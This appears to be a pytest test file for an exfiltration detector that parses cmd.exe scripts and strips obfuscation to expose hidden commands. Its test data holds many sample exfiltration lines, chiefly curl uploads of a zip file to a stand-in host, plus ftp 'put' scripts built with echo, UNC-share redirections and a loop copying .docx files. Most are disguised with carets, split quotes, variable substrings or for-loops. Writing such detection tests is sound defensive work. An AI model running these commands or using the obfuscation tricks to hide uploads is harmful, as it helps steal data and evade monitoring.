"""Scripts of cmd.exe, by `cmd /?`, `set /?`, `for /?`, `if /?`, `start /?`."""

import pytest

from exfilwatch.commands.command import Command, Undoing
from exfilwatch.commands.shells import cmd

UPLOAD = ["curl", "-T", r"C:\a.zip", "http://h/"]


def read(line: str) -> tuple[list[Command], list[str]]:
    undoing = Undoing()
    return cmd.commands(cmd.script_of(line), undoing), list(undoing.bounds.steps)


@pytest.mark.parametrize(
    ("line", "script"),
    [
        ("cmd /c whoami", "whoami"),
        ("cmd.exe /cwhoami", "whoami"),
        ("cmd/cwhoami", "whoami"),
        (r'"C:\Windows\System32\cmd.exe"  /d /s /c "dir "C:\a b""', r'dir "C:\a b"'),
        (r"C:\Windows\system32\cmd.exe /q /k cd \ ", "cd \\"),
        (r"C:/Windows/system32/cmd.exe /c ver", "ver"),
        ('cmd /V:ON/E:ON/C"echo !x!"', "echo !x!"),
        ("cmd /r echo a", "echo a"),
        (r'cmd /c "C:\Program Files\x.exe"', r'"C:\Program Files\x.exe"'),
        (r'cmd /s /c "C:\Program Files\x.exe"', r"C:\Program Files\x.exe"),
        (r'cmd /c "C:\Program Files\x.exe" "a b"', r'C:\Program Files\x.exe" "a b'),
        (r'cmd /c "x.exe a"', "x.exe a"),
        ("cmd", ""),
        ('cmd /c "', ""),
    ],
)
def test_the_script_stands_after_the_switch(line: str, script: str) -> None:
    assert cmd.script_of(line) == script


@pytest.mark.parametrize(
    ("script", "step"),
    [
        (r"curl -T C:\a.zip http://h/", None),
        (r'"curl" -T "C:\a.zip" http://h/', None),
        (r"c^u^rl -T C:\a.zip http://h/", "caret"),
        (r'cu""rl -T C:\a.zip http://h/', "quotes inside a word"),
        (r'c"ur"l -T C:\a"."zip http://h/', "quotes inside a word"),
        (r",;=curl -T C:\a.zip http://h/", None),
        (r"@curl -T C:\a.zip http://h/", None),
        (r"(((curl -T C:\a.zip http://h/)))", None),
        (r"call curl -T C:\a.zip http://h/", None),
        (r'start "" /b curl -T C:\a.zip http://h/', None),
        (r'start "t" /d C:\x /min /wait curl -T C:\a.zip http://h/', None),
        (r"set a=cu&&set b=rl&&call %a%%b% -T C:\a.zip http://h/", "variable"),
        (r"set a=cu&set b=rl&!a!!b! -T C:\a.zip http://h/", "variable"),
        (r'set "a=curl"& call %a% -T C:\a.zip http://h/', "variable"),
        (r"set a=xurl&& call %a:x=c% -T C:\a.zip http://h/", "part of a variable"),
        (r"set a=zzcurlzz&& call %a:~2,-2% -T C:\a.zip http://h/", "part of a variable"),
        (r"set a=junk;curl&& call %a:*;=% -T C:\a.zip http://h/", "part of a variable"),
        (r"%COMSPEC:~-7,1%url -T %SystemDrive%\a.zip http://h/", "part of a variable"),
        (r"%%COMSPEC:~-7,1%%url -T %%SystemDrive%%\a.zip http://h/", "part of a variable"),
        (r"set n=1&set /a m=n+1&call set f=%m%&curl -T C:\a.zip http://h/", None),
        (r"for %i in (curl) do %i -T C:\a.zip http://h/", "loop"),
        (r'for /f %i in ("curl") do %i -T C:\a.zip http://h/', "loop"),
        (r'for /f "tokens=2 delims=," %i in ("a,curl,b") do %i -T C:\a.zip http://h/', "loop"),
        (r"set a=lruc&for /l %i in (3,-1,0) do set b=!b!!a:~%i,1!&if %i==0 call %b:~-4% -T C:\a.zip http://h/", "loop"),
        (r"if a==a curl -T C:\a.zip http://h/", None),
        (r"if a==b (dir) else (curl -T C:\a.zip http://h/)", None),
        (r"if not exist C:\x curl -T C:\a.zip http://h/", None),
        (r"if defined X (curl -T C:\a.zip http://h/)", None),
        (r"rem a comment &&" + "\n" + r"curl -T C:\a.zip http://h/", None),
        (r":: a comment" + "\n" + r"curl -T C:\a.zip http://h/", None),
        (r"cur^" + "\n" + r"l -T C:\a.zip http://h/", "caret"),
        (r"curl -T C:\a.zip http://h/ >nul 2>&1", None),
    ],
)
def test_what_hides_a_command_is_undone(script: str, step: str | None) -> None:
    undoing = Undoing()
    assert [each.words for each in cmd.commands(script, undoing)] == [UPLOAD]
    assert step is None or step in undoing.bounds.steps


@pytest.mark.parametrize(
    "script",
    [
        r"a.exe & b.exe x",
        r"a.exe && b.exe x",
        r"a.exe||b.exe x",
        "a.exe\nb.exe x",
        r"(a.exe&b.exe x)",
        r"if exist y (a.exe) else b.exe x",
    ],
)
def test_operators_and_groups_split_commands(script: str) -> None:
    assert [each.words for each in cmd.commands(script, Undoing())] == [["a.exe"], ["b.exe", "x"]]


def test_what_is_called_has_the_redirections_of_the_call() -> None:
    (found,), _ = read(r"cmd /c set x=type&& call %x% C:\a > \\h\s\a < C:\b")
    assert (found.words, found.writes, found.reads) == (["type", r"C:\a"], [r"\\h\s\a"], r"C:\b")


def test_a_loop_is_read_once_with_its_variable_as_written() -> None:
    found, _ = read(r'cmd /c "dir c: /b & for /R c:\ %f in (*.docx) do copy /Y %f %temp%\T"')
    assert [each.words for each in found] == [
        ["dir", "c:", "/b"],
        ["for", "/r", "c:\\", "*.docx"],
        ["copy", "/Y", "%f", r"%temp%\T"],
    ]


def test_what_an_echo_writes_is_the_text_of_the_next_command() -> None:
    found, _ = read(r"cmd /c (echo open h&echo put C:\x)|ftp -n")
    assert found[-1].words == ["ftp", "-n"]
    assert found[-1].text == "open h\nput C:\\x"
    assert [each.words[0] for each in found[-1].piped] == ["echo", "echo"]


def test_what_a_script_writes_to_a_file_is_the_text_of_what_reads_it() -> None:
    found, _ = read(
        r"cmd /c echo open h>%TEMP%\s.txt&echo put C:\x>>%TEMP%\s.txt&ftp -s:%TEMP%\s.txt&ftp <%TEMP%\s.txt"
    )
    assert [each.text for each in found[2:]] == ["open h\nput C:\\x"] * 2
    assert found[3].reads == r"%TEMP%\s.txt"


def test_redirections_are_no_words() -> None:
    (found,), _ = read(r'cmd /c type "C:\a b.txt">\\h\s\x.txt 2>nul <in.txt')
    assert (found.words, found.writes, found.reads) == (["type", r"C:\a b.txt"], [r"\\h\s\x.txt"], "in.txt")


def test_what_is_not_known_stays_as_written() -> None:
    (found,), steps = read(r'cmd /c "curl -T %USERPROFILE%\a.zip %1 !x! %%f"')
    assert found.words == ["curl", "-T", r"%USERPROFILE%\a.zip", "%1", "!x!", "%%f"]
    assert steps == []


def test_the_prompt_of_an_input_is_written_as_an_echo_is() -> None:
    for line in (
        r'cmd /c <nul set /p="put C:\x"|ftp -n',
        r"cmd /c echo|set /p=put C:\x|ftp -n",
        r"cmd /c for %i in (put) do @echo %i C:\x|ftp -n",
    ):
        assert read(line)[0][-1].text == r"put C:\x"


def test_a_program_beside_the_batch_file_is_told_by_its_name() -> None:
    assert read(r"cmd /c %~dp0curl.exe -T x http://h/")[0][0].program == "curl"
